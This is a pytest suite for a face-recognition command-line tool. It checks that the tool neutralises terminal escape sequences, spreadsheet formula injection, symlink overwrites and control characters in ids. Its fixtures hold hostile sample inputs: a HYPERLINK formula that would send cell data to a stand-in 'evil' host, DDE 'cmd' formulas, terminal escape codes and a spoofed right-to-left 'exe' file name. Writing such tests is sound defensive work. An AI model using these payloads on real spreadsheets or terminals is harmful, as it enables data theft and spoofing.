"""What reaches a terminal, a spreadsheet or a place that a link names: the attack's findings 14, 15, 21 and 28."""

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import warnings
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from unicodedata import category, normalize

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import ExifTags, Image

from helpers.findings import STREETS, commit, dog, scanned, sky
from helpers.fixtures import Outcome, School
from muster.errors import MusterError
from muster.pipeline.cli import console
from muster.pipeline.work.choice import TaskChoice
from muster.storage import demo
from muster.storage.gallery import entry, roster
from muster.storage.library import LibraryFiles
from muster.training import record

Muster = Callable[..., Outcome]
CPU = ("--device", "cpu")
FORGED = "muster: all people forgotten"
TITLE, CLEAR, TURNED = "\x1b]0;PWNED\x07", "\x1b[2J\x9b1m", "\u202egpj.exe\u2066\u200f\u061c"
NAMES = [f"x\n{FORGED}.jpg", f"{TITLE}{CLEAR}.jpg", f"{TURNED}\x7f\u2028\r.jpg", "\udcff.jpg"]
GHOST = "S1\n2030-01-01T00:00:00+00:00 root@vm forget S2"  # as if another line of the audit log
LINK = '=HYPERLINK("http://evil/?"&A1,"x")'


def safe(outcome: Outcome) -> Outcome:
    """The same, once nothing in it can steer a terminal or stands in a line that was never written."""
    for text in (outcome.out, outcome.err):
        assert [c for c in text if not (c.isprintable() or c == "\n" or category(c) == "Zs")] == []
        for line in text.splitlines():
            assert not line.startswith((FORGED, "2030-01-01"))
    assert "Traceback" not in outcome.err
    return outcome


@pytest.fixture
def enrolment(muster: Muster, ray_cluster: None, tmp_path: Path, school: School) -> Outcome:
    """Of a library whose gallery has ids and names such as an older Muster took, from photos with such names."""
    people = {GHOST: f"{TITLE}{TURNED}", LINK: "=1+1|cmd", "Zé": "@SUM(1)"}
    photos = tmp_path / "enrolled"
    photos.mkdir()
    rows = [("person_id", "name", "image", "image2", "consent")]
    for file, (person, name), (one, _) in zip(NAMES, people.items(), school.enrolled.values(), strict=False):
        shutil.copy(one, photos / file)
        rows.append((person, name, f"enrolled/{file}", f"enrolled/none{file}", "yes"))
    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    with pytest.MonkeyPatch.context() as patch:
        for module in (entry, roster):
            patch.setattr(module, "word", lambda where, what, text: text or "")
        enrolled = muster("enroll", tmp_path / "roster.csv", "--workers", 1, *CPU, "-l", tmp_path / "library")
    assert enrolled.code == 0, enrolled.err
    assert "3 enrolled" in enrolled.out
    return enrolled


@pytest.fixture
def nasty(enrolment: Outcome, tmp_path: Path) -> Path:
    return tmp_path / "library"


@pytest.fixture
def probes(tmp_path: Path, school: School) -> Path:
    """Photos of those who are enrolled there, with names that are no better."""
    folder = tmp_path / "probes"
    folder.mkdir()
    for name, photo in zip(NAMES, school.probes.values(), strict=False):
        shutil.copy(photo, folder / name)
    return folder


@pytest.fixture
def found(tmp_path: Path, make_photos: Callable[..., Path]) -> LibraryFiles:
    """A library of photos with such names, and a camera with another; a dog and the sky are in each."""
    photos = make_photos(tmp_path / "photos", range(3))
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = f"{TITLE}{CLEAR}"
    with Image.open(photos / "0002.jpg") as image:
        image.save(photos / "0002.jpg", exif=exif)
    for path, name in zip(sorted(photos.iterdir()), [*NAMES[:2], f"=cmd|' C calc'!A0{TURNED}.jpg"], strict=True):
        path.rename(photos / name)
    library = scanned(tmp_path / "library", photos)
    commit(library, TaskChoice(name="objects").description, lambda i: [dog()])
    commit(library, STREETS, lambda i: [sky()])
    return library


# ---- 14: terminals ---------------------------------------------------------------------------------------------------


def test_14_the_gallery_shows_no_control_characters(
    muster: Muster, enrolment: Outcome, nasty: Path, probes: Path
) -> None:
    at = ("-l", nasty)
    assert len(safe(enrolment).out.splitlines()) == 4  # three photos are missing
    answers = safe(muster("identify", probes, "--threshold", "0.3", *CPU, *at))
    assert len(answers.out.splitlines()) == 4  # a face in each
    for text in ("\\x1b]0;PWNED\\x07\\x1b[2J\\x9b1m.jpg face 0", "%FF.jpg", "x\\nmuster: all", "\\u202egpj.exe"):
        assert text in answers.out
    assert GHOST.replace("\n", "\\n") in answers.out
    for options in ((), ("--json",)):
        answer = safe(muster("verify", probes / NAMES[0], "--person", GHOST, "--threshold", 0.3, *CPU, *options, *at))
        assert answer.code == 0
        log = safe(muster("audit", "show", *options, *at))
        safe(muster("identify", probes, "--threshold", "0.3", *CPU, *options, *at))
        safe(muster("status", *options, *at))
    actions = [entry["action"] for entry in log.facts["entries"]]
    assert actions == ["enroll-begun", "enroll", "identify", "verify", "identify", "verify"]
    assert len(safe(muster("audit", "show", *at)).out.splitlines()) == 7
    stranger = f"{TITLE}\n{FORGED}"
    assert safe(muster("verify", probes / NAMES[0], "--person", stranger, "--threshold", 0.3, *at)).code == 2
    assert safe(muster("forget", stranger, *at)).code == 2
    assert safe(muster("forget", GHOST, *at)).code == 0


@pytest.mark.parametrize("options", [(), ("--json",)])
def test_14_exports_and_overlays_show_none(
    muster: Muster, found: LibraryFiles, tmp_path: Path, options: tuple[str, ...]
) -> None:
    at = ("-l", found.uri, *options)
    safe(muster("status", *at))
    for form in ("coco", "csv", "yolo", "labelme"):
        assert safe(muster("export", "--format", form, "--out", tmp_path / f"{form}{CLEAR}", *at)).code == 0
    (tmp_path / "photos" / NAMES[0]).write_bytes(b"not a photo any more")
    drawn = safe(muster("overlay", "--out", tmp_path / f"look{TURNED}", "--tasks", "objects,masks", *at))
    assert f"left out {tmp_path}/photos/x\\nmuster: all people forgotten.jpg" in drawn.err
    assert len(drawn.err.splitlines()) == len(drawn.out.splitlines()) == 1


@pytest.mark.parametrize("name", NAMES)
def test_14_nor_do_complaints(muster: Muster, tmp_path: Path, name: str) -> None:
    at = ("-l", tmp_path / "library")
    (tmp_path / f"empty{name}").mkdir()
    (tmp_path / name).write_text(json.dumps({"images": [{"file_name": name, "id": 1}] * 2, "categories": []}))
    for arguments in (
        ["scan", tmp_path / f"none{name}", *at],
        ["scan", tmp_path / f"empty{name}", *at],
        ["scan", f"{name}://x", *at],
        ["run", "-l", tmp_path / name],
        ["run", "--tasks", name, *at],
        ["run", "--model", name, *at],
        ["run", "--weights", f"faces={name}", *at],
        ["cluster", "-k", name, *at],
        ["status", "-l", tmp_path / name],
        ["export", "--format", name, "--out", tmp_path / "out", *at],
        ["evaluate", "objects", "--images", tmp_path, "--annotations", tmp_path / name],
        ["evaluate", "verify", "--images", tmp_path / name, "--pairs", tmp_path / name],
        ["train", name, "--out", tmp_path / "out"],
        ["models", "pull", name],
        ["models", "export", name],
        ["enroll", tmp_path / name, *at],
        ["submit", "--address", f"{name}://x", "run"],
        ["jobs", "status", "x", "--address", f"{name}://x"],
        [name],
        [f"--{name}"],
        ["status", f"--{name}"],
        ["status", name],
        ["run", "--workers", name],
    ):
        outcome = safe(muster(*arguments))
        assert outcome.code in (1, 2), (arguments, outcome)
        assert (outcome.out, len(outcome.err.splitlines())) == ("", 1), (arguments, outcome)


def test_14_nor_do_remarks(muster: Muster, tmp_path: Path) -> None:
    name = f"{NAMES[0]}{CLEAR}.parquet"
    pq.write_table(pa.table({"image": pa.array([b"x"] * 3000)}), tmp_path / name)
    outcome = safe(muster("scan", tmp_path / name, "-l", tmp_path / "library"))
    assert (outcome.code, len(outcome.err.splitlines())) == (0, 1)
    assert "x\\nmuster: all people forgotten.jpg\\x1b[2J\\x9b1m.parquet holds 3000 images" in outcome.err


def test_14_nor_does_what_nobody_expected(muster: Muster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Python prints the text of an exception as it is, and that of a warning."""

    def broken(folder: Path) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("always")
            warnings.warn(f"{NAMES[0]}{CLEAR}", stacklevel=1)
        raise RuntimeError(f"{TITLE}{CLEAR}{TURNED}")

    monkeypatch.setattr(demo, "make_album", broken)
    outcome = muster("demo", tmp_path)
    assert (outcome.code, outcome.out) == (1, "")
    assert outcome.err.startswith("UserWarning: x\\nmuster: all people forgotten.jpg\\x1b[2J\\x9b1m\n")
    assert safe(Outcome(1, "", outcome.err.replace("Traceback", ""))).err.endswith(
        "RuntimeError: \\x1b]0;PWNED\\x07\\x1b[2J\\x9b1m\\u202egpj.exe\\u2066\\u200f\\u061c\n"
    )


def test_14_logs_of_jobs(capsys: pytest.CaptureFixture[str]) -> None:
    console.pass_on(f"1 of 2\r2 of 2\r\n\tdone {CLEAR}\n", as_json=False)
    assert capsys.readouterr().out == "1 of 2\n2 of 2\n\tdone \\x1b[2J\\x9b1m\n"


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_14_whatever_the_terminal_can_show(tmp_path: Path, encoding: str) -> None:
    """A name that is not UTF-8, and letters that the terminal does not know, on both streams."""
    folder = tmp_path / "é\udcff日\x1b[2J"
    folder.mkdir()
    for name in [*(shot.name for shot in demo.ALBUM), demo.DUPLICATE, demo.BROKEN]:
        (folder / name).touch()
    environment = {**os.environ, "LANG": "C", "LC_ALL": "C", "PYTHONIOENCODING": encoding}
    for arguments, code in ((("demo", folder), 0), (("scan", folder / "none", "-l", tmp_path / "library"), 2)):
        command = [sys.executable, "-m", "muster", *map(str, arguments)]
        done = subprocess.run(command, capture_output=True, env=environment, cwd=Path(__file__).parents[2])
        assert done.returncode == code, done.stderr
        shown = (done.stderr if code else done.stdout).decode(encoding)
        assert shown.count("\n") == 1
        assert shown.rstrip("\n").isprintable()
        assert "\\udcff" in shown


@given(lines=st.lists(st.text()), said=st.text())
def test_14_whatever_the_text(lines: list[str], said: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        console.report({}, False, *lines)
        console.say(said)
    assert out.getvalue().count("\n") == max(1, len(lines))
    assert err.getvalue().count("\n") == 1
    for text in (out.getvalue(), err.getvalue()):
        assert {category(c) for c in text.replace("\n", "")}.isdisjoint({"Cc", "Cf", "Cs", "Zl", "Zp"})
    as_json = io.StringIO()
    with redirect_stdout(as_json):
        console.report({"lines": lines}, True, *lines)
    assert json.loads(as_json.getvalue())["lines"] == lines
    assert as_json.getvalue().removesuffix("\n").isprintable()


# ---- 15: spreadsheets ------------------------------------------------------------------------------------------------


def test_15_answers(muster: Muster, nasty: Path, probes: Path, tmp_path: Path) -> None:
    for name in ("answers.csv", "answers.parquet"):
        options = ("--threshold", "0.3", "--out", tmp_path / name)
        assert muster("identify", probes, *options, *CPU, "-l", nasty).code == 0
    with (tmp_path / "answers.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert {(f"'{LINK}", "'=1+1|cmd"), ("Zé", "'@SUM(1)")} <= {(row["person_id"], row["name"]) for row in rows}
    assert not [value for row in rows for value in row.values() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(float(row["score"]) <= 1 for row in rows)
    assert LINK in pq.read_table(tmp_path / "answers.parquet")["person_id"].to_pylist()  # others get it as it is


def test_15_exports(muster: Muster, found: LibraryFiles, tmp_path: Path) -> None:
    assert muster("export", "--format", "csv", "--out", tmp_path / "out.csv", "-l", found.uri).code == 0
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert f"'=cmd|' C calc'!A0{TURNED}.jpg" in [row["file_name"] for row in rows]
    assert not [row for row in rows if row["file_name"].startswith("=")]
    assert all(float(row["x0"]) >= 0 for row in rows)


# ---- 21: links -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_21_answers_go_through_no_link(
    muster: Muster, gallery_library: Path, school: School, tmp_path: Path, suffix: str
) -> None:
    [ann, *_] = school.probes
    out, mine = tmp_path / f"out{suffix}", tmp_path / "thesis.txt"
    mine.write_text("mine")

    def identify() -> Outcome:
        options = ("--threshold", "0.3", "--out", out, *CPU)
        return muster("identify", school.probes[ann], *options, "-l", gallery_library)

    for make in (
        lambda: out.symlink_to(mine),
        lambda: out.symlink_to(tmp_path / "nothing"),
        out.mkdir,
        lambda: os.mkfifo(out),
    ):
        make()
        outcome = identify()
        assert (outcome.code, outcome.out) == (2, "")
        assert f"{out} is there already, and is no file" in outcome.error
        out.rmdir() if out.is_dir() else out.unlink()
    assert mine.read_text() == "mine"
    assert not (tmp_path / "nothing").exists()

    out.write_text("answers of yesterday")  # these are replaced
    os.link(out, tmp_path / "kept")
    assert identify().code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert (tmp_path / "kept").read_text() == "answers of yesterday"
    assert not list(tmp_path.glob(".out*"))


def test_21_nor_do_exports_and_overlays(muster: Muster, found: LibraryFiles, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "to file").symlink_to(tmp_path / "nothing")
    (tmp_path / "to folder").symlink_to(tmp_path / "empty")
    for command in (["export", "--format", "coco"], ["export", "--format", "yolo"], ["overlay"]):
        for name in ("to file", "to folder"):
            outcome = muster(*command, "--out", tmp_path / name, "-l", found.uri)
            assert (outcome.code, outcome.out) == (2, "")
            assert f"{tmp_path / name} is there already" in outcome.error
    assert not (tmp_path / "nothing").exists()
    assert list((tmp_path / "empty").iterdir()) == []


def test_21_nor_do_networks(muster: Muster, tmp_path: Path) -> None:
    mine, out = tmp_path / "thesis.txt", tmp_path / "x.onnx"
    mine.write_text("mine")
    out.symlink_to(tmp_path / "nothing")
    assert "x.onnx is there already" in muster("models", "export", "muster-daynight", "--out", out).error
    out.unlink()
    (tmp_path / "x.onnx.part").symlink_to(mine)  # the name that used to be written first
    assert muster("models", "export", "muster-daynight", "--out", out).code == 0
    assert mine.read_text() == "mine"
    assert not (tmp_path / "nothing").exists()


def test_21_nor_does_an_album(muster: Muster, tmp_path: Path) -> None:
    mine, [first, second, *_] = tmp_path / "thesis.txt", demo.ALBUM
    mine.write_text("mine")
    (tmp_path / "album").mkdir()
    (tmp_path / "album" / f".{first.name}.part").symlink_to(mine)
    (tmp_path / "album" / second.name).symlink_to(mine)
    assert muster("demo", tmp_path / "album").code == 0
    assert mine.read_text() == "mine"
    assert not (tmp_path / "album" / second.name).is_symlink()


def test_21_nor_does_a_training(tmp_path: Path) -> None:
    from muster.pipeline.train import _alone

    mine = tmp_path / "thesis.txt"
    mine.write_text("mine")
    for name in ("file.part", "file", ".lock"):
        (tmp_path / name).symlink_to(mine)
    record.replace_file(tmp_path / "file", lambda file: file.write(b"weights"))
    assert (tmp_path / "file").read_text() == "weights"
    with pytest.raises(MusterError, match="symbolic links"), _alone(tmp_path):
        pass
    log = record.Log(tmp_path, 0, writes=True)
    log.path.unlink()
    log.path.symlink_to(mine)
    with pytest.raises(OSError, match="symbolic links"):
        log.write(1, {"loss": 1.0})
    assert mine.read_text() == "mine"


# ---- 28: ids ---------------------------------------------------------------------------------------------------------


def test_28_one_person_however_it_is_written(muster: Muster, nasty: Path, probes: Path, tmp_path: Path) -> None:
    at = ("--threshold", 0.3, *CPU, "-l", nasty)
    for form in ("NFC", "NFD"):
        answer = muster("verify", probes / NAMES[2], "--person", normalize(form, "Zé"), *at)
        assert (answer.code, answer.out.split(",")[0]) == (0, "match: @SUM(1)")
    image = normalize("NFD", "Zoë.jpg")  # as a Mac names it; and as a keyboard writes it:
    shutil.copy(probes / NAMES[2], tmp_path / image)
    (tmp_path / "r.csv").write_text(f"person_id,image,consent\n{normalize('NFD', 'Zé')},Zoë.jpg,yes\n")
    accept = ("--accept", normalize("NFD", "Zé"))
    again = muster("enroll", tmp_path / "r.csv", *accept, "--workers", 1, *CPU, "-l", nasty, "--json")
    assert again.code == 0, again.err
    assert again.facts.items() >= {"enrolled": 0, "updated": 1, "people": 3, "refused": []}.items()


@pytest.mark.parametrize("column", ["person_id", "name", "group"])
@pytest.mark.parametrize("character", ["\x1b", "\n", "\x7f", "\x9b", "\u202e", "\u2028", "\u200b"])
def test_28_ids_and_names_without_control_characters(
    muster: Muster, tmp_path: Path, column: str, character: str
) -> None:
    row = {"person_id": "1", "name": "Ann", "group": "7b", "image": "a.jpg", column: f"a{character}b"}
    with (tmp_path / "r.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(row))
        writer.writeheader()
        writer.writerow(row)
    outcome = safe(muster("enroll", tmp_path / "r.csv", "--consent-given", "-l", tmp_path / "library"))
    assert (outcome.code, outcome.out) == (2, "")
    line = 3 if character == "\n" else 2
    assert f"r.csv, line {line}: {column} {f'a{character}b'!r} has a control character" in outcome.error
    assert not (tmp_path / "library" / "gallery").exists()
